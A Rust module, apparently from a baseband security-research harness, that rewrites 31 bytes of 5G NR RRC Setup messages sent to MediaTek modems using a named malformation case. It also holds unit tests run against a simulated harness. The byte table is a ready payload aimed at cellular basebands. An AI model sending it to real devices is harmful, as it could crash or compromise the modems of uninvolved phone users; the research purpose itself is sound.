//! This file contains the module that malforms NR RRC Setup messages sent to a
//! Mediatek baseband. When the harness sees an `rrcSetup` element go out, the
//! MAC scheduling part of the master cell group config gets rewritten with
//! the field combination from case
//! `mac_sch_multi_43_52_50_group10_combo30_case1085`.
//!
//! SPDX-License-Identifier: MIT
//! Copyright (c) 2025 h0mbre

use super::ModuleDef;
use crate::table::{MutationEntry, MutationTable};

/// Offsets below were read off a capture whose first 48 bytes (the
/// encapsulation in front of the RRC PDU) never reach the outbound buffer
const CAPTURE_BASE: usize = 48;

/// Shorthand for an entry at a capture offset
const fn at(field_offset: usize, value: u8) -> MutationEntry {
    MutationEntry::rebased(field_offset, CAPTURE_BASE, value)
}

const ENTRIES: [MutationEntry; 31] = [
    // Leading fields, capture 99..109
    at(99, 0x07),
    at(106, 0x07),
    at(107, 0xe1),
    at(109, 0xa0),
    // Scheduling block, capture 184..200
    at(184, 0x82),
    at(186, 0x31),
    at(187, 0x15),
    at(188, 0x05),
    at(189, 0x40),
    at(190, 0x01),
    at(191, 0xc0),
    at(192, 0x04),
    at(194, 0x46),
    at(195, 0x88),
    at(196, 0x00),
    at(197, 0xa8),
    at(198, 0x84),
    at(199, 0x00),
    at(200, 0xa0),
    // Trailing block, capture 209..223
    at(209, 0x00),
    at(210, 0x8a),
    at(211, 0x10),
    at(212, 0x04),
    at(213, 0x00),
    at(214, 0x80),
    at(215, 0x01),
    at(218, 0x28),
    at(219, 0x01),
    at(220, 0x01),
    at(222, 0x05),
    at(223, 0x4c),
];

pub static RRC_SETUP: ModuleDef = ModuleDef {
    name: "Mediatek",
    element_path: "nr-rrc.rrcSetup_element",
    table: MutationTable::new(&ENTRIES),
    log_line: "Malformed rrc setup sent!",
};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::harness::SimHarness;
    use crate::mutators::{IncompletePolicy, ModuleStatus, PacketModule, TableModule};

    fn loaded(policy: IncompletePolicy) -> (TableModule, SimHarness) {
        let mut harness =
            SimHarness::new(&[RRC_SETUP.element_path, "nr-rrc.rrcReject_element"]);
        let mut module = TableModule::new(&RRC_SETUP, policy);
        assert_eq!(module.setup(&mut harness.ctx()), ModuleStatus::Unchanged);
        (module, harness)
    }

    #[test]
    fn table_shape() {
        let table = RRC_SETUP.table;
        assert_eq!(table.len(), 31);
        assert_eq!(table.min_offset(), Some(51));
        assert_eq!(table.required_len(), 176);

        // No two entries fight over a byte
        let mut offsets: Vec<usize> = table.entries().iter().map(|e| e.offset).collect();
        offsets.sort_unstable();
        offsets.dedup();
        assert_eq!(offsets.len(), 31);
    }

    #[test]
    fn rrc_setup_gets_malformed() {
        let (mut module, mut harness) = loaded(IncompletePolicy::Suppress);
        let original: Vec<u8> = (0..224).map(|i| (i * 7) as u8).collect();
        let mut pkt = original.clone();

        let status = harness.transmit(&mut module, &mut pkt, &[RRC_SETUP.element_path]);
        assert_eq!(status, ModuleStatus::Mutated);
        assert_eq!(status.as_raw(), 1);
        assert_eq!(pkt.len(), 224);
        assert_eq!(pkt[99 - 48], 0x07);
        assert_eq!(pkt[107 - 48], 0xe1);
        assert_eq!(pkt[223 - 48], 0x4c);

        // Bytes outside the table are untouched
        for idx in [0, 50, 52, 60, 137, 176, 223] {
            assert_eq!(pkt[idx], original[idx]);
        }

        assert!(module.last_applied().unwrap().is_complete());
    }

    #[test]
    fn other_messages_pass_through() {
        let (mut module, mut harness) = loaded(IncompletePolicy::Suppress);
        let mut pkt = vec![0x33u8; 224];

        let status = harness.transmit(&mut module, &mut pkt, &["nr-rrc.rrcReject_element"]);
        assert_eq!(status.as_raw(), 0);
        assert_eq!(pkt, vec![0x33u8; 224]);
    }

    #[test]
    fn short_rrc_setup() {
        // Suppressed by default
        let (mut module, mut harness) = loaded(IncompletePolicy::Suppress);
        let mut pkt = vec![0u8; 100];
        let status = harness.transmit(&mut module, &mut pkt, &[RRC_SETUP.element_path]);
        assert_eq!(status, ModuleStatus::Unchanged);
        assert_eq!(pkt, vec![0u8; 100]);

        // Only the leading fields fit in 100 bytes
        let (mut module, mut harness) = loaded(IncompletePolicy::Partial);
        let mut pkt = vec![0u8; 100];
        let status = harness.transmit(&mut module, &mut pkt, &[RRC_SETUP.element_path]);
        assert_eq!(status, ModuleStatus::Mutated);
        assert_eq!(module.last_applied().unwrap().applied, 4);
        assert_eq!(pkt[51], 0x07);
        assert_eq!(pkt[61], 0xa0);
    }
}
